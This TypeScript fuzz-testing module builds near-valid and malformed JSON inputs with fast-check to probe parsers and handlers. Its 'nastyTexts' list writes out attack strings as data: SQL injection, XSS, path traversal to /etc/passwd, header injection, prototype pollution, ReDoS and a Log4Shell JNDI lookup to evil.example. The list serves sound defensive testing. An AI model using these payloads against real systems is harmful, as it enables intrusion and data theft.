import fc from "fast-check";

/** Text that has meant trouble somewhere: to paths, headers, parsers, terminals, normalization, databases. */
export const nastyTexts: readonly string[] = [
  "",
  " ",
  "\0",
  "\r\nSet-Cookie: a=b",
  "\u202efdp.exe",
  "\u0301".repeat(255),
  "\ud800",
  "\uffff",
  "👩‍👩‍👧‍👦".repeat(20),
  "ﷺ".repeat(100),
  "../../../../etc/passwd",
  "..\\..\\windows",
  "__proto__",
  "constructor",
  "toString",
  "<script>alert(1)</script>",
  "' OR 1=1 --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on loggers, as text
  "${jndi:ldap://evil.example/x}",
  "{{7*7}}",
  "%00%0d%0a",
  "javascript:alert(1)",
  "https://evil.example\\@app.example/",
  "x".repeat(5_000),
  `${"(".repeat(500)}a${")*".repeat(500)}`,
  "1e309",
  "NaN",
];

const nastyValues: readonly unknown[] = [
  ...nastyTexts,
  null,
  true,
  0,
  -0,
  -1,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  {},
  [[[[[[[[]]]]]]]],
  [null],
  { length: 1e9 },
  { toJSON: null },
];

type Path = readonly (string | number)[];

function* pathsIn(value: unknown, at: Path = []): Generator<Path> {
  yield at;
  if (typeof value !== "object" || value === null) return;
  for (const [key, inner] of Object.entries(value)) {
    yield* pathsIn(inner, [...at, Array.isArray(value) ? Number(key) : key]);
  }
}

/** The value with what lies at a path replaced; `undefined` takes it out. */
function replaced(value: unknown, [first, ...rest]: Path, by: unknown): unknown {
  if (first === undefined) return by;
  if (Array.isArray(value)) {
    return value.flatMap((each, at) =>
      at !== first ? [each] : rest.length || by !== undefined ? [replaced(each, rest, by)] : [],
    );
  }
  const entries = Object.entries(value as object).flatMap(([key, each]) =>
    key !== first
      ? [[key, each] as const]
      : rest.length || by !== undefined
        ? [[key, replaced(each, rest, by)] as const]
        : [],
  );
  return Object.fromEntries(entries);
}

const spot = fc.nat({ max: 10_000 });

/** One node of a value exchanged, taken out, or repeated. */
const changeNode = (value: unknown): fc.Arbitrary<unknown> =>
  fc
    .tuple(spot, fc.oneof(fc.constantFrom(...nastyValues), fc.constant(undefined), fc.jsonValue()))
    .map(([at, by]) => {
      const paths = [...pathsIn(value)];
      return replaced(value, paths[at % paths.length] ?? [], by);
    });

/** A key that nobody asked for; `__proto__` can only be written into the text. */
const addKey = (value: unknown): fc.Arbitrary<unknown> =>
  fc
    .tuple(
      fc.constantFrom("extra", "constructor", "", "\0", "documents", "9".repeat(300)),
      fc.jsonValue(),
    )
    .map(([key, more]) =>
      typeof value === "object" && value !== null && !Array.isArray(value)
        ? { ...value, [key]: more }
        : [value, more],
    );

/** JSON text that is cut, doubled, padded, quoted otherwise or too deep. */
const changeText = (text: string): fc.Arbitrary<string> =>
  fc.oneof(
    fc.nat({ max: text.length }).map((length) => text.slice(0, length)),
    fc.constantFrom(
      `\ufeff${text}`,
      text + text,
      `${text}\0`,
      `[${text}`,
      text.replaceAll('"', "'"),
      text.replace("{", '{"__proto__":{"polluted":true},'),
      text.replace("{", '{"\\u005f\\u005fproto__":[],'),
      text.replace(/:/g, "::"),
      `${" ".repeat(20_000)}${text}`,
      "[".repeat(100_000),
      `${'{"a":'.repeat(5_000)}1${"}".repeat(5_000)}`,
      `{"a":[${"0,".repeat(30_000)}0]}`,
      `{"a":"${"\\u0000".repeat(1_000)}"}`,
      "x".repeat(300_000),
    ),
    fc.string({ unit: "binary" }),
  );

/** Bodies near a valid JSON value: as it is, a little wrong, or not JSON at all. */
export const nearJson = (valid: fc.Arbitrary<unknown>): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: valid.map((value) => JSON.stringify(value)) },
    { weight: 5, arbitrary: valid.chain(changeNode).map((value) => JSON.stringify(value) ?? "") },
    { weight: 2, arbitrary: valid.chain(addKey).map((value) => JSON.stringify(value)) },
    { weight: 3, arbitrary: valid.chain((value) => changeText(JSON.stringify(value))) },
  );
